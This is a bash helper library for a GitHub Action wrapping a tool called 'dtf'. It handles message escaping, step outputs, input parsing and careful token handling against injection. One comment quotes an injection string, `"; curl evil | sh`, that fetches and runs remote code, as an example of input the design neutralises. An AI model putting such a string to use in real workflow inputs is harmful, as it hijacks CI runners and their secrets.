# shellcheck shell=bash
# Helpers shared by the action's steps. Sourced, never run.
#
# Every input reaches the scripts as an environment variable (INPUT_*), set by the
# step's `env:` in action.yml. Nothing from a workflow is ever pasted into a script's
# text, so a branch name or an input holding `"; curl evil | sh` stays a string.

# Workflow commands (`::error::`) end at a newline and treat `%` specially; escape both
# so a message cannot end early or smuggle in a second command.
dtf_escape() {
  local s=$1
  s=${s//'%'/'%25'}
  s=${s//$'\r'/'%0D'}
  s=${s//$'\n'/'%0A'}
  printf '%s' "$s"
}

dtf_error() { printf '::error title=dtf::%s\n' "$(dtf_escape "$*")"; }
dtf_warning() { printf '::warning title=dtf::%s\n' "$(dtf_escape "$*")"; }
dtf_notice() { printf '::notice title=dtf::%s\n' "$(dtf_escape "$*")"; }
dtf_die() {
  dtf_error "$*"
  exit 1
}

# A step output. One line is written as `name=value`; anything with a newline uses the
# delimiter form with a random delimiter that the value cannot contain.
dtf_set_output() {
  local name=$1 value=$2 delim
  : "${GITHUB_OUTPUT:?GITHUB_OUTPUT is not set: run this inside a GitHub Actions job}"
  if [[ $value == *$'\n'* || $value == *$'\r'* ]]; then
    delim="dtf_$(od -An -N16 -tx1 /dev/urandom | tr -d ' \n')"
    while [[ $value == *"$delim"* ]]; do
      delim="${delim}x"
    done
    printf '%s<<%s\n%s\n%s\n' "$name" "$delim" "$value" "$delim" >>"$GITHUB_OUTPUT"
  else
    printf '%s=%s\n' "$name" "$value" >>"$GITHUB_OUTPUT"
  fi
}

# Split a multi-line input into the array DTF_LINES: one item a line, blank lines and
# surrounding spaces dropped. Each line is one argument: nothing is split on spaces or
# evaluated, so an argument may hold spaces, quotes or `$`. (No namerefs: macOS still
# ships bash 3.2, so these scripts stay within it.)
dtf_lines() {
  local line
  DTF_LINES=()
  while IFS= read -r line || [[ -n $line ]]; do
    line=${line%$'\r'}
    line="${line#"${line%%[![:space:]]*}"}"
    line="${line%"${line##*[![:space:]]}"}"
    if [[ -n $line ]]; then
      DTF_LINES+=("$line")
    fi
  done <<<"${1-}"
}

# true/false inputs, as GitHub writes them (`true`, `True`, `false`); anything else is
# a mistake worth stopping for rather than a silent default.
dtf_bool() {
  case "$(printf '%s' "$2" | tr '[:upper:]' '[:lower:]')" in
    true | yes | 1) return 0 ;;
    false | no | 0 | '') return 1 ;;
    *) dtf_die "input $1 must be true or false, got: $2" ;;
  esac
}

# The dtf to run: the one the install step put in place, else whatever is on PATH.
dtf_bin() {
  if [[ -n ${DTF_BIN-} ]]; then
    printf '%s' "$DTF_BIN"
  else
    printf 'dtf'
  fi
}

# The action's scratch folder on the runner, kept apart per job.
dtf_scratch() {
  local base=${RUNNER_TEMP:-${TMPDIR:-/tmp}}
  printf '%s/dtf-action' "$base"
}

dtf_enter_workdir() {
  local dir=${INPUT_WORKING_DIRECTORY:-.}
  cd -- "$dir" || dtf_die "working-directory does not exist: $dir"
}

# The token (INPUT_TOKEN) is taken out of the environment as soon as a script starts,
# so that only the dtf commands that talk to GitHub (baseline, publish) receive it, as
# GITHUB_TOKEN, and nothing else the step starts (dtf report, a test framework) does.
dtf_take_token() {
  DTF_TOKEN=${INPUT_TOKEN-}
  unset INPUT_TOKEN
}

# Runs dtf with the token in its environment; the token is never an argument.
dtf_with_token() {
  GITHUB_TOKEN=${DTF_TOKEN-} "$(dtf_bin)" "$@"
}

# Fetch the base branch's latest dtf results (the report artifact of its latest
# successful run) into $1, and set DTF_BASELINE_DIR to the folder dtf unpacked it to.
# A missing baseline is normal (the first build on a branch, an expired artifact, a
# token that may not read artifacts): dtf baseline says why and exits 0 without
# printing a folder, and the caller goes on without one.
dtf_fetch_baseline() {
  local into=$1 got
  DTF_BASELINE_DIR=''
  rm -rf -- "$into"
  if got=$(dtf_with_token baseline --artifact "${INPUT_ARTIFACT_NAME:-dtf-results}" --out "$into") &&
    [[ -n $got && -d $got ]]; then
    # shellcheck disable=SC2034 # read by the scripts that source this file
    DTF_BASELINE_DIR=$got
    return 0
  fi
  dtf_notice "no baseline from the base branch (see the lines above); going on without one"
  return 1
}
